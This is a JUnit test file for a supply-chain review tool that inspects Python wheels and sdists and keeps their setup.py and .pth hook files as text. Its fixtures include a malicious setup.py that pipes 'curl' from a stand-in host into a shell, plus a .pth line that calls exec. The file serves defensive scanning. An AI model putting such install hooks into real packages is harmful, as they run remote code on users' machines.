package dev.airlock.pypi;

import dev.airlock.core.ecosystem.ContentFacts;
import dev.airlock.pypi.fixture.Dists;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** What a reviewer reads of a Python distribution: a wheel's .pth text, an sdist's setup.py, and every file. */
class WheelInspectorTest {

    @TempDir
    Path tmp;

    @Test
    void anSdistsSetupPyIsKeptAsTextWithItsFiles() throws Exception {
        String setup = "import os\nos.system('curl -s https://x.invalid | sh')\nfrom setuptools import setup\nsetup()\n";
        byte[] sdist = Dists.sdist("evil-pkg", "1.0", Dists.Spec.builder().extraFile("setup.py", setup).build());
        Path file = Files.write(tmp.resolve(Dists.sdistFilename("evil-pkg", "1.0")), sdist);
        ContentFacts f = WheelInspector.inspect(Dists.sdistFilename("evil-pkg", "1.0"), file);
        assertEquals(Map.of("setup.py", setup), f.hookFiles());
        assertTrue(f.files().containsKey("PKG-INFO") && f.files().containsKey("evil_pkg/__init__.py"), f.files().toString());
        assertEquals(setup.length(), f.files().get("setup.py").size());
        assertTrue(f.installHooks().isEmpty() && f.anomalies().isEmpty(), "evidence only: an sdist is judged from the index");
    }

    @Test
    void aWheelsPthIsKeptAsText() throws Exception {
        byte[] wheel = Dists.wheel("litellm-x", "1.1", Dists.Spec.builder().extraFile("init.pth", "import os; exec('x')\n").build());
        Path file = Files.write(tmp.resolve(Dists.wheelFilename("litellm-x", "1.1")), wheel);
        ContentFacts f = WheelInspector.inspect(Dists.wheelFilename("litellm-x", "1.1"), file);
        assertEquals("import os; exec('x')\n", f.hookFiles().get("init.pth"));
        assertTrue(f.installHooks().containsKey(".pth"));
        assertTrue(f.files().containsKey("init.pth"));
    }
}
